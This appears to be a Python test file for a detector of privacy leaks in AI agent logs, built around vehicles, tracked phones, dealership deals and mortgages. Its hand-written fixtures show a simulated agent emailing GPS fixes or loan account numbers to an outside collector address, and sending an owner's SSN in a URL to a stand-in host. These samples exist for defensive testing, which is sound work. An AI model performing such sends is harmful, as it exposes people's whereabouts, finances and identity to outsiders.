"""Vehicles and their loans: a tracked car's or phone's position fix is the driver's
whereabouts (`coordinates`); a VIN is public (`keys.published`); a deal's or a loan's
``buyer``/``borrower``/``lessee`` block makes the record theirs (`keys.party_block`); a
loan's account is what "what is still owed" names (`recipients.asked`). Each with its
look-alike, in LangChain and Bedrock Converse logs written by hand."""

from __future__ import annotations

import json

from audit_builders import converse, found, langchain

OUTSIDER = "collector@unpaid-recovery.example"


def _to(findings: list) -> set[str]:
    return {f.evidence["sink"]["destination"] for f in findings}


def _mail(to: str, body: str) -> tuple[str, dict, str]:
    return ("outlook_send_mail", {"to": [to], "subject": "Update", "body": body}, "queued")


STATS = {"vehicle": {"id": "281474977", "name": "Van 12"}, "latitude": 41.88123,
         "longitude": -87.62341, "headingDegrees": 270, "time": "2026-03-02T08:14:00Z"}  # fmt: skip
HOTEL = {"name": "Lakeshore Inn", "latitude": 41.88123, "longitude": -87.62341, "stars": 3}


def test_a_vehicles_position_fix_leaks_but_a_hotels_coordinates_do_not(tmp_path) -> None:
    body = "It is parked at 41.88123,-87.62341 right now."
    steps = [("fleet_vehicle_stats", {"types": "gps"}, json.dumps(STATS)), _mail(OUTSIDER, body)]
    data = langchain("Where is van 12?", steps, "You help the fleet dispatcher.")
    assert _to(found(tmp_path, data)) == {OUTSIDER}
    steps = [("hotel_search", {"city": "Chicago"}, json.dumps(HOTEL)), _mail(OUTSIDER, body)]
    data = langchain("Find a hotel downtown.", steps, "You help the fleet dispatcher.")
    assert found(tmp_path, data) == []


def test_a_tools_bare_coordinates_are_a_fix_but_four_decimals_are_not(tmp_path) -> None:
    for where, leaks in (({"lat": 30.26712, "lng": -97.74306}, True), ({"lat": 30.2671}, False)):
        where = where if leaks else {"lat": 30.2671, "lng": -97.7430}
        text = f"Phone is at {where['lat']}, {where['lng']}"
        steps = [("find_device_location", {"device": "pixel-8"}, json.dumps(where))]
        data = converse("Where's my kid's phone?", [*steps, _mail(OUTSIDER, text)], "Family hub.")
        assert _to(found(tmp_path, data)) == ({OUTSIDER} if leaks else set())


DEAL = {"dealNumber": "D-55120", "buyer": {"name": "Ray Okafor", "email": "ray.ok@mailbox.example"},
        "trade": {"lienHolder": "Harbor Credit Union", "loanAccount": "7730214558913"}}  # fmt: skip


def test_a_deals_buyer_may_get_the_deals_loan_account_and_no_one_else(tmp_path) -> None:
    body = "Your trade's loan account 7730214558913 will be paid off at signing."
    for to, leaks in (("ray.ok@mailbox.example", False), (OUTSIDER, True)):
        steps = [("dms_deal_get", {"deal": "D-55120"}, json.dumps(DEAL)), _mail(to, body)]
        data = converse("Send Ray his recap.", steps, "You are the dealership's desk agent.")
        assert _to(found(tmp_path, data)) == ({to} if leaks else set())


MORTGAGE = {"property": "18 Maple St", "loan": {"servicer": "Northgate Home Loans",
            "accountNumber": "40019938271", "principal": 212400.15}}  # fmt: skip


def test_what_is_owed_names_the_loans_account_for_the_address_the_user_gave(tmp_path) -> None:
    lawyer = "m.chen@closinglaw.example"
    body = "Northgate Home Loans account 40019938271."
    for ask, leaks in (
        (f"What is still owed on 18 Maple St? Mail it to our closing attorney {lawyer}.", False),
        (f"When do we close on 18 Maple St? Mail the date to our closing attorney {lawyer}.", True),
    ):
        steps = [
            ("crm_property_get", {"id": "18-maple"}, json.dumps(MORTGAGE)),
            _mail(lawyer, body),
        ]
        data = langchain(ask, steps, "You are a real-estate team's assistant.")
        assert _to(found(tmp_path, data)) == ({lawyer} if leaks else set())


UNIT = {"stock": "T4471", "vin": "JTMRWRFV5RD104522", "owner": {"ssn": "521-44-9083"}}


def test_a_vin_to_a_public_decoder_is_no_leak_but_the_owners_ssn_is(tmp_path) -> None:
    for value, leaks in (("JTMRWRFV5RD104522", False), ("521-44-9083", True)):
        url = f"https://vin-decoder.example.org/api/decode/{value}"
        steps = [("inventory_get_unit", {"stock": "T4471"}, json.dumps(UNIT))]
        steps.append(("http_get", {"url": url}, '{"make": "Toyota"}'))
        data = converse("Decode stock T4471.", steps, "You help the used-car manager.")
        assert _to(found(tmp_path, data)) == ({url} if leaks else set())
